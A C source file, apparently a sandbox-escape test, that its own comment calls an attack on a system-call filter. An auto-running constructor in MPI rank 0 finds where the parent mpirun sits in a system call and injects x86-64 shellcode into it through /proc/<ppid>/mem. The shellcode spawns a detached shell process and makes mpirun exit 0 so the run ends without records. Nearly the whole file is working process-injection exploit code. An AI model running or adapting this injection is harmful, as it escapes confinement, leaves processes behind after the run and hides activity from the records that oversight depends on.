/* Attack: get out of the system-call filter through the launcher. mpirun is
 * the ranks' parent, runs as their uid and is not filtered. Rank 0 reads
 * where mpirun sits in a system call (/proc/<ppid>/syscall ends with its
 * program counter) and writes code over the instructions it returns to,
 * through /proc/<ppid>/mem; that code forks a child that calls setsid and
 * execs /bin/sh -c "exec sleep 121", and mpirun itself exits 0. If it
 * worked, the run would end without records. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifdef __x86_64__
/* fork; child: setsid, execve("/bin/sh", {"/bin/sh", "-c", CMD}), exit;
 * parent: exit_group(0). Position independent (strings by rip). */
static const unsigned char payload[] = {
    0xb8, 0x39, 0x00, 0x00, 0x00, 0x0f, 0x05, 0x85, 0xc0, 0x75, 0x36, 0xb8, 0x70, 0x00, 0x00,
    0x00, 0x0f, 0x05, 0x48, 0x8d, 0x3d, 0x31, 0x00, 0x00, 0x00, 0x48, 0x8d, 0x15, 0x32, 0x00,
    0x00, 0x00, 0x48, 0x8d, 0x0d, 0x2e, 0x00, 0x00, 0x00, 0x6a, 0x00, 0x51, 0x52, 0x57, 0x48,
    0x89, 0xe6, 0x31, 0xd2, 0xb8, 0x3b, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xb8, 0x3c, 0x00, 0x00,
    0x00, 0x31, 0xff, 0x0f, 0x05, 0xb8, 0xe7, 0x00, 0x00, 0x00, 0x31, 0xff, 0x0f, 0x05, 0x2f,
    0x62, 0x69, 0x6e, 0x2f, 0x73, 0x68, 0x00, 0x2d, 0x63, 0x00, 0x65, 0x78, 0x65, 0x63, 0x20,
    0x73, 0x6c, 0x65, 0x65, 0x70, 0x20, 0x31, 0x32, 0x31, 0x00};

__attribute__((constructor)) static void take_over_the_launcher(void)
{
    const char *rank = getenv("OMPI_COMM_WORLD_RANK");
    if (!rank || strcmp(rank, "0") != 0) return;
    char path[64], line[512];
    for (int attempt = 0; attempt < 200; attempt++) {
        snprintf(path, sizeof path, "/proc/%d/syscall", (int)getppid());
        int fd = open(path, O_RDONLY);
        if (fd < 0) return;
        ssize_t got = read(fd, line, sizeof line - 1);
        close(fd);
        if (got <= 0) return;
        line[got] = '\0';
        if (strncmp(line, "running", 7) == 0) { /* not in a call: look again */
            usleep(1000);
            continue;
        }
        const char *pc = strrchr(line, ' ');
        if (!pc) return;
        snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
        fd = open(path, O_RDWR);
        if (fd < 0) return; /* refused: carry on as the reference */
        ssize_t put = pwrite(fd, payload, sizeof payload, (off_t)strtoul(pc + 1, NULL, 16));
        close(fd);
        if (put == (ssize_t)sizeof payload) return;
    }
}
#endif
